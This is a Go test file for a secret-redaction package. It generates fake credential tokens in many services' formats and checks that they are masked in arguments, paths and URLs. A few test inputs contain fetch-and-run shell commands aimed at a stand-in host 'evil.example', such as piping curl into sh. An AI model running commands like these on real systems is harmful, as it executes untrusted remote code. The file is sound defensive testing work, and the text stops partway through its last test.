package redact

import (
	"bytes"
	"strings"
	"sync"
	"testing"
	"time"
	"unicode/utf8"
)

func testKey(b byte) (k [32]byte) {
	for i := range k {
		k[i] = b
	}
	return
}

var plain = New(testKey(1), Options{})

// rnd returns n characters of alphabet that look random and are the same on
// every run. Test values are made when the test runs, so that no scanner takes
// this file for a leak.
func rnd(n int, alphabet string, seed uint64) string {
	var b strings.Builder
	x := seed*0x9e3779b97f4a7c15 + 0x1234567
	for range n {
		x ^= x << 13
		x ^= x >> 7
		x ^= x << 17
		b.WriteByte(alphabet[x>>33%uint64(len(alphabet))])
	}
	return b.String()
}

const (
	digits  = "0123456789"
	lower   = "abcdefghijklmnopqrstuvwxyz"
	upper   = "ABCDEFGHIJKLMNOPQRSTUVWXYZ"
	alnum   = digits + lower + upper
	hexa    = "0123456789abcdef"
	urlSafe = alnum + "-_"
)

// tokens holds one of each kind that has a shape.
func tokens() map[string]string {
	part := func(n int, seed uint64) string { return rnd(n, urlSafe, seed) }
	return map[string]string{
		"github classic":        "gh" + "p_" + rnd(36, alnum, 1),
		"github oauth":          "gh" + "o_" + rnd(36, alnum, 2),
		"github user":           "gh" + "u_" + rnd(36, alnum, 3),
		"github server":         "gh" + "s_" + rnd(36, alnum, 4),
		"github server, new":    "gh" + "s_" + "123456_" + "ey" + "J" + rnd(30, alnum, 5) + "." + rnd(40, alnum, 6) + "." + rnd(40, alnum, 7),
		"github refresh":        "gh" + "r_" + rnd(36, alnum, 8),
		"github fine-grained":   "github" + "_pat_" + rnd(22, alnum, 9) + "_" + rnd(59, alnum, 10),
		"gitlab personal":       "gl" + "pat-" + rnd(20, urlSafe, 11),
		"gitlab runner":         "gl" + "rt-" + rnd(20, urlSafe, 12),
		"gitlab job":            "gl" + "cbt-" + rnd(26, urlSafe, 13),
		"bitbucket":             "AT" + "BB" + rnd(32, alnum, 14),
		"atlassian":             "ATA" + "TT3" + rnd(180, urlSafe, 15),
		"npm":                   "np" + "m_" + rnd(36, alnum, 16),
		"pypi":                  "py" + "pi-AgEIcHlwaS5vcmc" + rnd(120, urlSafe, 17),
		"rubygems":              "ruby" + "gems_" + rnd(48, hexa, 18),
		"crates":                "c" + "io" + rnd(32, alnum, 19),
		"nuget":                 "o" + "y2" + rnd(43, digits+lower, 20),
		"docker":                "dckr" + "_pat_" + rnd(27, urlSafe, 21),
		"aws id":                "AK" + "IA" + rnd(16, upper+"234567", 22),
		"aws session id":        "AS" + "IA" + rnd(16, upper+"234567", 23),
		"google api":            "AI" + "za" + rnd(35, urlSafe, 24),
		"google client secret":  "GOC" + "SPX-" + rnd(28, urlSafe, 25),
		"google access":         "ya" + "29." + rnd(120, urlSafe, 26),
		"azure client secret":   "abc8" + "Q~" + rnd(34, alnum+"_.-", 28),
		"digitalocean":          "dop" + "_v1_" + rnd(64, hexa, 29),
		"slack bot":             "xo" + "xb-" + rnd(12, digits, 30) + "-" + rnd(12, digits, 31) + "-" + rnd(24, alnum, 32),
		"slack user":            "xo" + "xp-" + rnd(12, digits, 33) + "-" + rnd(32, hexa, 34),
		"slack app":             "xa" + "pp-1-" + rnd(11, upper+digits, 35) + "-" + rnd(13, digits, 36) + "-" + rnd(64, hexa, 37),
		"telegram":              rnd(10, "123456789", 38) + ":A" + "A" + rnd(33, urlSafe, 39),
		"stripe":                "sk" + "_live_" + rnd(24, alnum, 40),
		"stripe restricted":     "rk" + "_live_" + rnd(24, alnum, 41),
		"stripe webhook":        "wh" + "sec_" + rnd(32, alnum, 42),
		"shopify":               "shp" + "at_" + rnd(32, hexa, 43),
		"anthropic":             "sk-" + "ant-api03-" + rnd(95, urlSafe, 44),
		"openai":                "sk-" + "proj-" + rnd(74, alnum, 45),
		"openai, old":           "sk-" + rnd(48, alnum, 46),
		"huggingface":           "h" + "f_" + rnd(34, lower+upper, 47),
		"groq":                  "gs" + "k_" + rnd(52, alnum, 48),
		"vault service":         "hv" + "s." + rnd(90, urlSafe, 49),
		"vault batch":           "hv" + "b." + rnd(130, urlSafe, 50),
		"terraform":             rnd(14, alnum, 51) + ".atl" + "asv1." + rnd(67, alnum, 52),
		"pulumi":                "pu" + "l-" + rnd(40, hexa, 53),
		"doppler":               "dp" + ".pt." + rnd(43, alnum, 54),
		"age":                   "AGE-" + "SECRET-KEY-1" + rnd(58, upper+digits, 55),
		"tailscale":             "tsk" + "ey-auth-" + rnd(17, alnum, 56) + "-" + rnd(32, alnum, 57),
		"sendgrid":              "S" + "G." + part(22, 58) + "." + part(43, 59),
		"twilio":                "S" + "K" + rnd(32, hexa, 60),
		"newrelic":              "NR" + "AK-" + rnd(27, upper+digits, 62),
		"grafana":               "gl" + "sa_" + rnd(32, alnum, 63) + "_" + rnd(8, hexa, 64),
		"sentry":                "sntr" + "ys_" + rnd(120, alnum, 65),
		"linear":                "lin" + "_api_" + rnd(40, alnum, 66),
		"notion":                "nt" + "n_" + rnd(46, alnum, 67),
		"databricks":            "da" + "pi" + rnd(32, hexa, 68),
		"supabase":              "sb" + "p_" + rnd(40, hexa, 69),
		"jwt":                   "ey" + "J" + rnd(33, alnum, 70) + ".ey" + "J" + rnd(60, alnum, 71) + "." + rnd(43, urlSafe, 72),
		"private key":           "-----BEGIN " + "OPENSSH PRIVATE KEY-----\n" + rnd(70, alnum+"+/", 73) + "\n" + rnd(70, alnum+"+/", 74) + "\n-----END " + "OPENSSH PRIVATE KEY-----",
		"private key, one line": "-----BEGIN " + "PRIVATE KEY-----\\n" + rnd(64, alnum, 75) + "\\n-----END " + "PRIVATE KEY-----",
		"private key, cut":      "-----BEGIN " + "RSA PRIVATE KEY-----\n" + rnd(64, alnum, 76),
		"pgp private key":       "-----BEGIN " + "PGP PRIVATE KEY BLOCK-----\n\n" + rnd(64, alnum, 77) + "\n-----END " + "PGP PRIVATE KEY BLOCK-----",
		"slack webhook path":    "https://hooks.slack.com/services/T" + rnd(8, upper, 78) + "/B" + rnd(8, upper, 79) + "/" + rnd(24, alnum, 80),
		"discord webhook path":  "https://discord.com/api/web" + "hooks/" + rnd(18, digits, 81) + "/" + rnd(68, urlSafe, 82),
		"google refresh":        "1/" + "/0" + rnd(60, urlSafe, 83),
		"1password":             "op" + "s_ey" + "J" + rnd(200, alnum, 84),
		"planetscale":           "pscale" + "_tkn_" + rnd(43, urlSafe, 85),
		"artifactory":           "AK" + "Cp" + rnd(69, alnum, 86),
		"figma":                 "fi" + "gd_" + rnd(40, urlSafe, 87),
		"postman":               "PM" + "AK-" + rnd(24, hexa, 88) + "-" + rnd(34, hexa, 89),
		"netlify":               "nf" + "p_" + rnd(36, alnum, 90),
		"replicate":             "r" + "8_" + rnd(37, alnum, 91),
		"square":                "sq0" + "atp-" + rnd(22, urlSafe, 92),
		"circleci":              "CCI" + "PAT_" + rnd(22, alnum, 93) + "_" + rnd(40, hexa, 94),
		"vault in a sentence":   "hv" + "s." + rnd(24, alnum, 95),
		"gitlab in quotes":      "gl" + "pat-" + rnd(20, alnum, 96),
		"openrouter":            "sk-" + "or-v1-" + rnd(64, hexa, 97),
		"xai":                   "xa" + "i-" + rnd(80, alnum, 98),
		"perplexity":            "pp" + "lx-" + rnd(48, alnum, 99),
		"langsmith":             "lsv" + "2_pt_" + rnd(32, hexa, 100) + "_" + rnd(10, hexa, 101),
		"buildkite":             "bk" + "ua_" + rnd(40, hexa, 102),
		"fly":                   "fm" + "2_" + rnd(100, alnum+"+/", 103),
		"heroku":                "HR" + "KU-" + rnd(40, urlSafe, 104),
	}
}

// core returns the part of a secret that must not show: its longest run of
// token characters, or the whole.
func core(s string) string {
	best := ""
	for _, f := range strings.FieldsFunc(s, func(r rune) bool {
		return r == '\n' || r == ' ' || r == '\\' || r == '/' || r == '-' || r == '.' || r == '_'
	}) {
		if len(f) > len(best) {
			best = f
		}
	}
	return best
}

// leaks reports whether any 8 bytes of secret are in text.
func leaks(text, secret string) bool {
	const n = 8
	if len(secret) < n {
		return strings.Contains(text, secret)
	}
	for i := 0; i+n <= len(secret); i++ {
		if strings.Contains(text, secret[i:i+n]) {
			return true
		}
	}
	return false
}

func argv(r *Redactor, args ...string) ([]string, []Found) {
	texts, found := r.Argv([]byte(strings.Join(args, "\x00")+"\x00"), nil, nil)
	out := make([]string, len(texts))
	for i, t := range texts {
		out[i] = t.String()
	}
	return out, found
}

func TestTokensOfKnownShapeAreReplacedWhereverTheyStand(t *testing.T) {
	for name, token := range tokens() {
		t.Run(name, func(t *testing.T) {
			secret := core(token)
			for _, place := range []string{
				"%s", "x %s y", `"%s"`, "'%s'", "a=%s", "echo %s | base64 -w0", "https://h.example/p?x=%s&y=1", `{"k":"%s"}`, "(%s)", "a,%s,b", "<%s>", "é%s",
			} {
				in := strings.Replace(place, "%s", token, 1)
				if got := plain.String(in).String(); leaks(got, secret) || !strings.Contains(got, "[redacted ") {
					t.Errorf("String(%q) = %q", in, got)
				}
			}
			got, found := argv(plain, "tool", "-x", token, "y")
			if joined := strings.Join(got, " "); leaks(joined, secret) {
				t.Errorf("Argv leaks: %q", joined)
			}
			if len(found) == 0 || found[0].Index != 2 || found[0].Length == 0 || found[0].Hash.Len() != 32 || found[0].Pattern.IsZero() {
				t.Errorf("found = %+v", found)
			}
			if got := plain.Path([]byte("/tmp/" + strings.NewReplacer("/", "_", "\n", "_").Replace(token))).String(); !strings.Contains(token, "/") && leaks(got, secret) {
				t.Errorf("Path = %q", got)
			}
			if got := plain.Host([]byte(secret + ".evil.example.")).String(); strings.Contains(token, secret) && token == secret && leaks(got, strings.ToLower(secret)) {
				t.Errorf("Host = %q", got)
			}
		})
	}
}

func TestWhatOnlyLooksLikeASecretStays(t *testing.T) {
	sha1, sha256 := rnd(40, hexa, 200), rnd(64, hexa, 201)
	b64 := rnd(86, alnum+"+/", 202) + "=="
	for _, s := range []string{
		"npm_config_registry=x", "npm_package_name", "npm_lifecycle_event", "ghp_short", "gho_", "github_pat_tern",
		"sk-learn-contrib-something-long-enough-name", "hf_hub_download_with_retries_and_more_words", "pypi-attestations", "key-value-store-of-the-application-x",
		"sha512-" + b64, `"integrity":"sha512-` + b64 + `"`, "sha256:" + sha256, "repo@sha256:" + sha256, "docker.io/library/node@sha256:" + sha256,
		"/root/.npm/_cacache/content-v2/sha512/" + sha256[:2] + "/" + sha256[2:4] + "/" + rnd(124, hexa, 203),
		"/root/.npm/_cacache/index-v5/" + sha1[:2] + "/" + sha1[2:4] + "/" + sha1[4:],
		".git/objects/" + sha1[:2] + "/" + sha1[2:], "git checkout " + sha1, "h1:" + rnd(43, alnum+"+/", 204) + "=",
		"github.com/x/y v1.2.3/go.mod h1:" + rnd(43, alnum+"+/", 205) + "=", "--build-arg COMMIT=" + sha1,
		"GITHUB_SHA=" + sha1, "-X main.commit=" + sha1, "cache-key=node-linux-" + sha256, "--cache-key node-linux-" + sha256, "cache-key-" + sha1[:32], "key=Linux-node-" + sha256,
		"123e4567-e89b-12d3-a456-426614174000", "id=123e4567-e89b-12d3-a456-426614174000", "session=123e4567-e89b-12d3-a456-426614174000",
		"v1.2.3-beta.4+build.5678", "1.26.0-rc1", "/nix/store/" + rnd(32, lower+digits, 206) + "-bash-5.2/bin/bash",
		"/tmp/go-build" + rnd(10, digits, 207) + "/b001/exe/main", "--max-tokens 4096", "--max-tokens=4096", "--token-file /run/token", "--password-stdin",
		"--token-url=https://x.example/oauth", "author=me", "monkey=banana", "turkey: x", "tokenizer=fast", "passthrough=1", "--compass north", "keyboard=us",
		"--no-password", "bypass=all", "PWD=/home/me/project", "OLDPWD=/tmp", "--keyring /usr/share/keyrings/x.gpg", "--key-type ed25519", "AWS_REGION=eu-west-1",
		"TOKEN=$GITHUB_TOKEN", "--token ${{ secrets.NPM_TOKEN }}", "--token=$NPM_TOKEN", "password=***", "--password ${DB_PASSWORD}", "token=", "secret=none", "PASSWORD=$(cat /run/p)",
		"https://git@github.com/org/repo", "https://github.com:443/org/repo", "git@github.com:org/repo.git", "ssh://git@host:22/x", "http://[::1]:8080/x@y", "mailto:me@example.com",
		"https://registry.example/@scope/name/-/name-1.0.0.tgz", "file:///a/b@c", "http://h/x:y@z",
		"-fstack-protector-strong -D_FORTIFY_SOURCE=2", "x86_64-unknown-linux-gnu-cross-compiler-wrapper", "--secret id=npmrc,src=.npmrc",
		"node_modules/.pnpm/@babel+helper-plugin-utils@7.22.5/node_modules", "feature/add-the-token-refresh-and-password-reset-flows", "test:token", "npm run test:password",
		"--selector=app.kubernetes.io/name=my-application", "eyJ", "eyJhbGciOiJub25lIn0", "SKELETON0123456789", "AKIATOOSHORT",
		"aHR0cHM6Ly9leGFtcGxlLmNvbS9hL2xvbmcvcGF0aC90by9zb21ld2hlcmU=", // base64 of a plain URL
		"docker run -p 8080:80 -u 1000:1000 --user 1000:1000", "tar -cpf a.tar b", "mkdir -p /a/b", "ssh -p 2222 host", "psql -p 5432", "make -k test",
		"key: value", "session: none", "signature=ok", "--signature-policy /etc/x.json", "--auth none", "auth=true", "[redacted github-token 40]",
		"CertIssuerPublicKey: aGVsbG8=", "public_key=" + rnd(40, alnum, 208), `"@octokit/auth-token": "^4.0.0"`, `"parse-passwd": "^1.0.0"`, "PASS: manifest is there", "--password=$$DB_PASSWORD", "if env.MY_PASSWORD == secrets.PASSWORD",
		"secrets: inherit", "secrets.txt", "password.go", "token_test.go", "/src/secret/token.go", "the password is not here: look elsewhere",
	} {
		if got := plain.String(s).String(); got != s {
			t.Errorf("String(%q)\n= %q", s, got)
		}
		if got := plain.Path([]byte(s)).String(); got != s {
			t.Errorf("Path(%q)\n= %q", s, got)
		}
		args := strings.Fields(s)
		if got, found := argv(plain, args...); strings.Join(got, " ") != strings.Join(args, " ") || len(found) != 0 && args[0] != "[redacted" {
			t.Errorf("Argv(%q)\n= %q %v", args, got, found)
		}
	}
}

func TestArgumentsAreReadTogether(t *testing.T) {
	const secret = "hunter2-Zq9!xW"
	for _, args := range [][]string{
		{"tool", "--token", secret}, {"tool", "--token=" + secret}, {"tool", "-token", secret}, {"tool", "-token=" + secret}, {"tool", "--api-key", secret}, {"tool", "--apiKey", secret},
		{"tool", "--password", secret}, {"tool", "--db-password=" + secret}, {"tool", "--client-secret", secret}, {"tool", "--access-token", secret}, {"tool", "--passphrase", secret},
		{"tool", "--token", "-" + secret}, {"tool", "--auth-token", secret, "x"},
		{"mysql", "-u", "root", "-p" + secret}, {"mysql", "-p", secret}, {"/usr/bin/mysqldump", "-p" + secret}, {"mariadb", "-p" + secret}, {"sshpass", "-p", secret, "ssh", "h"}, {"sshpass", "-p" + secret, "ssh"},
		{"docker", "login", "-u", "me", "-p", secret}, {"podman", "login", "-p", secret, "h"}, {"az", "login", "-u", "me", "-p", secret}, {"twine", "upload", "-p", secret}, {"helm", "registry", "login", "-p", secret},
		{"curl", "-u", "me:" + secret, "h"}, {"curl", "-ume:" + secret, "h"}, {"curl", "--user", "me:" + secret}, {"curl", "--user=me:" + secret}, {"curl", "--proxy-user", "me:" + secret}, {"sudo", "-E", "/usr/bin/curl", "-u", "me:" + secret},
		{"curl", "-b", "sid=" + secret}, {"curl", "--cookie", "sid=" + secret}, {"curl", "--oauth2-bearer", secret},
		{"curl", "-H", "Authorization: Bearer " + secret}, {"curl", "-H", "authorization: token " + secret}, {"curl", "-HAuthorization: Basic " + secret}, {"curl", "-H", "Authorization:" + secret}, {"curl", "-H", "X-Api-Key: " + secret},
		{"curl", "-H", "Cookie: a=1; b=" + secret}, {"curl", "-H", "PRIVATE-TOKEN: " + secret}, {"curl", "--header=X-Vault-Token: " + secret}, {"curl", "-H", "X-Custom-Token: " + secret},
		{"wget", "--password=" + secret}, {"wget", "--header", "Authorization: Bearer " + secret}, {"redis-cli", "-a", secret}, {"ldapsearch", "-w", secret}, {"unzip", "-P", secret, "a.zip"}, {"7z", "x", "-p" + secret, "a.7z"},
		{"openssl", "enc", "-k", secret}, {"openssl", "rsa", "-passin", "pass:" + secret}, {"smbclient", "-U", "me%" + secret}, {"lftp", "-u", "me," + secret}, {"sqlcmd", "-P", secret}, {"ssh-keygen", "-N", secret},
		{"cargo", "login", secret}, {"vault", "login", secret}, {"snyk", "auth", secret}, {"nuget", "push", "-k", secret}, {"dotnet", "nuget", "push", "--api-key", secret}, {"gh", "secret", "set", "X", "--body", secret}, {"gh", "secret", "set", "X", "-b", secret},
		{"env", "NPM_TOKEN=" + secret, "npm", "publish"}, {"env", "AWS_SECRET_ACCESS_KEY=" + secret}, {"export", "PGPASSWORD=" + secret}, {"docker", "run", "-e", "GITHUB_TOKEN=" + secret}, {"docker", "build", "--build-arg", "NPM_TOKEN=" + secret},
		{"npm", "config", "set", "//r.example/:_authToken", secret}, {"npm", "config", "set", "//r.example/:_authToken=" + secret}, {"npm", "publish", "--//r.example/:_authToken=" + secret}, {"aws", "configure", "set", "aws_secret_access_key", secret},
		{"git", "clone", "https://x-access-token:" + secret + "@github.com/o/r"}, {"git", "-c", "http.extraheader=AUTHORIZATION: basic " + secret, "fetch"}, {"git", "config", "http.https://github.com/.extraheader", "AUTHORIZATION: basic " + secret},
		{"psql", "postgres://me:" + secret + "@h:5432/d"}, {"redis-cli", "-u", "redis://:" + secret + "@h"}, {"x", "amqp://u:p/" + secret + "@h/v"},
		{"curl", "https://h.example/x?access_token=" + secret}, {"curl", "https://h.example/x?a=1&sig=" + secret}, {"curl", "https://h.example/x?a=1&token=" + secret + "#f"}, {"curl", "https://h.example/x?client_secret=" + secret + "&y=2"},
		{"curl", "-d", `{"user":"me","password":"` + secret + `"}`}, {"curl", "-d", `{"api_key": "` + secret + `"}`}, {"curl", "--data", "grant_type=password&password=" + secret + "&u=1"}, {"curl", "-F", "token=" + secret},
		{"bash", "-c", "curl -u me:" + secret + " https://h.example"}, {"sh", "-ec", "export TOKEN=" + secret + "; run"}, {"bash", "-lc", "mysql -uroot -p" + secret + " db"}, {"bash", "-c", "tool --token '" + secret + "' x"},
		{"bash", "-c", `curl -H "Authorization: Bearer ` + secret + `" h`}, {"bash", "-c", "echo \"//r.example/:_authToken=" + secret + "\" > .npmrc"}, {"bash", "-c", "login <<< password=" + secret}, {"bash", "-c", "A_TOKEN='" + secret + "' cmd"},
		{"kubectl", "create", "secret", "generic", "x", "--from-literal=password=" + secret}, {"az", "x", "--connection-string", "Endpoint=x;AccountKey=" + secret + ";Y=z"}, {"x", "Server=h;Password=" + secret + ";Database=d"},
		{"helm", "install", "--set", "db.password=" + secret + ",replicas=2"}, {"x", "--tokens.admin.secret=" + secret}, {"tool", "--my_secret", secret}, {"x", "config.db.password: " + secret}, {"tool", "token = " + secret}, {"x", `--env={"SECRET_KEY":"` + secret + `"}`},
	} {
		got, found := argv(plain, args...)
		joined := strings.Join(got, " ")
		if leaks(joined, secret) {
			t.Errorf("%q\n= %q", args, got)
		}
		if len(found) == 0 {
			t.Errorf("%q: nothing told", args)
		}
		if len(got) != len(args) {
			t.Errorf("%q: %d arguments became %d", args, len(args), len(got))
		}
	}
}

func TestTheRestOfAnArgumentStaysReadable(t *testing.T) {
	for _, c := range []struct{ in, want string }{
		{"curl -u me:hunter22 https://h.example/x", "curl -u me:[redacted password 8] https://h.example/x"},
		{"TOKEN=abcdef1; curl http://evil.example|sh", "TOKEN=[redacted named-secret 7]; curl http://evil.example|sh"},
		{"git clone https://me:abc@h.example/o/r", "git clone https://me:[redacted url-password 3]@h.example/o/r"},
		{"https://h.example/x?a=1&token=abc&b=2#f", "https://h.example/x?a=1&token=[redacted url-parameter 3]&b=2#f"},
		{`{"user":"me","password":"a\"b","x":1}`, `{"user":"me","password":"[redacted named-secret 4]","x":1}`},
		{"Authorization: Bearer abc", "Authorization: Bearer [redacted auth-header 3]"},
		{"password: abc # why", "password: [redacted named-secret 3] # why"},
	} {
		if got := plain.String(c.in).String(); got != c.want {
			t.Errorf("String(%q)\n= %q\nnot %q", c.in, got, c.want)
		}
		if got := plain.String(plain.String(c.in).String()).String(); got != c.want {
			t.Errorf("not idempotent: %q", got)
		}
	}
}

func TestAScriptAfterDashCIsNotHiddenByAnAssignmentInFront(t *testing.T) {
	got, _ := argv(plain, "bash", "-c", "NPM_TOKEN=abc123 curl http://evil.example/x.sh -o /tmp/x")
	if want := "NPM_TOKEN=[redacted named-secret 6] curl http://evil.example/x.sh -o /tmp/x"; got[2] != want {
		t.Errorf("%q", got[2])
	}
}

func TestAMarkWrittenByTheJobHidesNothing(t *testing.T) {
	const secret = "hunter2hunter2"
	for _, in := range []string{
		"--token=[redacted github-token 40]" + secret, "token=[redacted password 1][redacted password 1]" + secret, "password: [redacted password 3]" + secret,
	} {
		if got := plain.String(in).String(); leaks(got, secret) {
			t.Errorf("%q = %q", in, got)
		}
		if got, _ := argv(plain, "x", in); leaks(got[1], secret) {
			t.Errorf("%q = %q", in, got)
		}
	}
}

func TestAMarkWrittenByTheJobHidesNoArgument(t *testing.T) {
	const secret = "hunter2hunter2"
	for _, in := range []string{"token=[redacted " + secret + " 4]", "--token=[redacted password " + secret + "]", "--token=[redacted password 12345678]" + secret} {
		if got, _ := argv(plain, "x", in); leaks(got[1], secret) {
			t.Errorf("%q = %q", in, got)
		}
	}
}

func TestControlCharactersAndInvalidBytesBecomeVisible(t *testing.T) {
	for _, c := range []struct{ in, want string }{
		{"a\nb\tc\x1b[31m\x7f", "a␊b␉c␛[31m␡"},
		{"\x00", "␀"},
		{"a\xffb", "a⟨ff⟩b"},
		{"\xc3\x28", "⟨c3⟩("},
		{"\xed\xa0\x80", "⟨ed⟩⟨a0⟩⟨80⟩"},
		{"a\u202eb", "a⟨U+202E⟩b"},
		{"a\u200bb\ufeff", "a⟨U+200B⟩b⟨U+FEFF⟩"},
		{"\u0085", "⟨U+0085⟩"},
		{"\u00a0", "⟨U+00A0⟩"},
		{"\U000e0041", "⟨U+E0041⟩"},
		{"日本語 é ☃", "日本語 é ☃"},
	} {
		got := plain.String(c.in).String()
		if got != c.want {
			t.Errorf("String(%q) = %q, not %q", c.in, got, c.want)
		}
		if again := plain.String(got).String(); again != got {
			t.Errorf("not idempotent: %q, %q", got, again)
		}
	}
}

func TestTextsAreBounded(t *testing.T) {
	r := New(testKey(1), Options{Max: 100, MaxArgv: 1000})
	long := strings.Repeat("é/", 4000)
	got := r.Path([]byte(long)).String()
	if len(got) > 100 || !strings.Contains(got, "[cut ") || !utf8.ValidString(got) {
		t.Errorf("%d bytes: %q", len(got), got)
	}
	if again := r.Path([]byte(got)).String(); again != got {
		t.Errorf("not idempotent: %q", again)
	}
	args, _ := argv(r, long, long, "x", "y")
	if n := len(strings.Join(args, "")); n > 1000+32 {
		t.Errorf("%d bytes of arguments", n)
	}
	if !strings.HasPrefix(args[len(args)-1], "[cut ") {
		t.Errorf("the cut is not told: %q", args[len(args)-1])
	}
	many, _ := argv(plain, strings.Split(strings.Repeat("a ", 10000), " ")...)
	if len(many) != maxArgs+1 {
		t.Errorf("%d arguments", len(many))
	}
	// A secret across the cut must not show its first half.
	token := tokens()["github classic"]
	for n := 60; n < 110; n++ {
		if got := r.String(strings.Repeat("x ", n/2) + token + strings.Repeat(" y", 80)).String(); leaks(got, token) || len(got) > 100 {
			t.Errorf("%q", got)
		}
	}
}

func TestArgumentsKeepTheirPlaces(t *testing.T) {
	for _, c := range []struct {
		raw  string
		want []string
	}{
		{"", nil}, {"\x00", []string{""}}, {"a\x00", []string{"a"}}, {"a", []string{"a"}}, {"a\x00b", []string{"a", "b"}}, {"a\x00\x00b\x00", []string{"a", "", "b"}}, {"a\x00\x00", []string{"a", ""}},
		{"--token\x00\x00x\x00", []string{"--token", "", "x"}},
	} {
		texts, _ := plain.Argv([]byte(c.raw), nil, nil)
		var got []string
		for _, x := range texts {
			got = append(got, x.String())
		}
		if strings.Join(got, "|") != strings.Join(c.want, "|") || len(got) != len(c.want) {
			t.Errorf("%q: %q, not %q", c.raw, got, c.want)
		}
	}
}

func TestHashesAreEqualWithinOneRecordingOnly(t *testing.T) {
	token := tokens()["npm"]
	_, a := argv(plain, "x", token)
	_, b := argv(plain, "y", "--z", "https://me:"+token+"@h.example")
	_, c := argv(New(testKey(2), Options{}), "x", token)
	if a[0].Hash != b[0].Hash || a[0].Hash != plain.Hash([]byte(token)) {
		t.Errorf("one recording: %v %v", a, b)
	}
	if a[0].Hash == c[0].Hash {
		t.Error("two recordings give the same hash")
	}
}

func TestOnlyAllowedVariablesAreStored(t *testing.T) {
	for _, name := range []string{"GITHUB_JOB", "RUNNER_TRACKING_ID", "CI", "CLAUDE_CODE_SESSION_ID", "GITHUB_STEP_SUMMARY"} {
		if !EnvAllowed([]byte(name)) {
			t.Errorf("%s is refused", name)
		}
	}
	for _, name := range []string{"GITHUB_TOKEN", "ACTIONS_RUNTIME_TOKEN", "ACTIONS_ID_TOKEN_REQUEST_TOKEN", "PATH", "HOME", "", "github_job", "COPILOT_GITHUB_TOKEN", "NPM_TOKEN"} {
		if EnvAllowed([]byte(name)) {
			t.Errorf("%s is allowed", name)
		}
		if n, v, ok := plain.Env([]byte(name), []byte("x")); ok || !n.IsZero() || !v.IsZero() {
			t.Errorf("%s is stored", name)
		}
	}
	for _, name := range EnvNames() {
		if classify([]byte(name)) == keyStrong {
			t.Errorf("%s names a secret", name)
		}
	}
	_, v, ok := plain.Env([]byte("GITHUB_JOB"), []byte(tokens()["npm"]))
	if !ok || leaks(v.String(), tokens()["npm"]) {
		t.Errorf("a token in an allowed variable: %q", v)
	}
	if n := testing.AllocsPerRun(100, func() { EnvAllowed([]byte("GITHUB_JOB")) }); n != 0 {
		t.Errorf("%v allocations", n)
	}
}

func TestHostsAreInLowerCaseWithoutFinalDot(t *testing.T) {
	for in, want := range map[string]string{"Example.COM.": "example.com", ".": ".", "": "", "a\x00b": "a␀b"} {
		if got := plain.Host([]byte(in)).String(); got != want {
			t.Errorf("Host(%q) = %q", in, got)
		}
	}
}

func TestOperationsMakeTextOfText(t *testing.T) {
	p := Const("/Usr/bin/Node")
	if !p.Base().Is("Node") || !p.Dir().Is("/Usr/bin") || !p.Base().Lower().Is("node") || !Const("/x").Dir().Is("/") || !Const("x").Dir().IsZero() {
		t.Error("paths")
	}
	if !Join(Const(":"), Const("h"), Uint(443)).Is("h:443") || !Concat().IsZero() || !Concat(Int(-1), Const("x")).Is("-1x") {
		t.Error("Join")
	}
	if !Const("aéb").Slice(0, 2).Is("a") || !Const("abc").Slice(-4, 99).Is("abc") || !Const("abc").Slice(2, 1).IsZero() {
		t.Error("Slice")
	}
	if _, ok := HexID("0123abcdef-00"); !ok {
		t.Error("HexID refuses an id")
	}
	for _, s := range []string{"", "xyz", strings.Repeat("a", 65), "a b"} {
		if _, ok := HexID(s); ok {
			t.Errorf("HexID takes %q", s)
		}
	}
	if _, ok := BuildID("3s7kd2jx9qz81mfh4tbn06wyc"); !ok {
		t.Error("BuildID refuses an id")
	}
	for _, s := range []string{"", "3s7kd2jx9qz81mfh4tbn06wy", "3s7kd2jx9qz81mfh4tbn06wyC", "3s7kd2jx9qz81mfh4tbn06wycc"} {
		if _, ok := BuildID(s); ok {
			t.Errorf("BuildID takes %q", s)
		}
	}
	if got, ok := Pick([]Text{Const("GET"), Const("PUT")}, "PUT"); !ok || !got.Is("PUT") {
		t.Error("Pick")
	}
}

// usual is the argv of a compiler, 122 bytes.
var usual = []byte("/usr/lib/gcc/x86_64-linux-gnu/12/cc1\x00-quiet\x00-I\x00/usr/include/x86_64-linux-gnu\x00-O2\x00-DNDEBUG=1\x00src/lib/file.c\x00-o\x00/tmp/ccX1.s\x00")

func TestCleanArgumentsCostOneAllocation(t *testing.T) {
	masked := New(testKey(1), Options{Masked: []string{"hunter2hunter2", "another-secret-value"}})
	var dst []Text
	var found []Found
	for _, r := range []*Redactor{plain, masked} {
		if n := testing.AllocsPerRun(1000, func() { dst, found = r.Argv(usual, dst[:0], found[:0]) }); n > 1 {
			t.Errorf("%v allocations", n)
		}
	}
	path := []byte("/home/runner/work/repo/repo/node_modules/lodash/index.js")
	if n := testing.AllocsPerRun(1000, func() { plain.Path(path) }); n > 1 {
		t.Errorf("Path: %v allocations", n)
	}
	if n := testing.AllocsPerRun(1000, func() { plain.Path(nil) }); n > 0 {
		t.Errorf("empty Path: %v allocations", n)
	}
}

func BenchmarkArgv(b *testing.B) {
	var ms []string
	for i := range 30 {
		ms = append(ms, rnd(40, alnum, uint64(300+i)))
	}
	script := []byte("bash\x00-c\x00set -e\nfor f in *.c; do gcc -O2 -c \"$f\" -o \"${f%.c}.o\"; done\ncurl -fsSL https://h.example/x | tar -xz\x00")
	secret := []byte("curl\x00-H\x00Authorization: Bearer " + rnd(40, alnum, 1) + "\x00https://h.example/\x00")
	for _, c := range []struct {
		name string
		r    *Redactor
		raw  []byte
	}{
		{"a long list of files", plain, bytes.Repeat([]byte("/home/runner/work/app/app/src/module/file_name.go\x00"), 2600)},
		{"usual", plain, usual}, {"usual, 30 masked values", New(testKey(1), Options{Masked: ms}), usual}, {"script", plain, script}, {"secret", plain, secret},
	} {
		b.Run(c.name, func(b *testing.B) {
			b.ReportAllocs()
			b.SetBytes(int64(len(c.raw)))
			var dst []Text
			var found []Found
			for b.Loop() {
				dst, found = c.r.Argv(c.raw, dst[:0], found[:0])
			}
		})
	}
}

func BenchmarkPath(b *testing.B) {
	path := []byte("/home/runner/work/repo/repo/node_modules/lodash/index.js")
	b.ReportAllocs()
	for b.Loop() {
		plain.Path(path)
	}
}

func TestHostileArgumentsTakeTimeInProportion(t *testing.T) {
	r := New(testKey(1), Options{Masked: []string{"hunter2hunter2"}})
	nested := "hunter2hunter2"
	for len(nested) < 60<<10 {
		nested = b64(nested)
	}
	for _, unit := range []string{
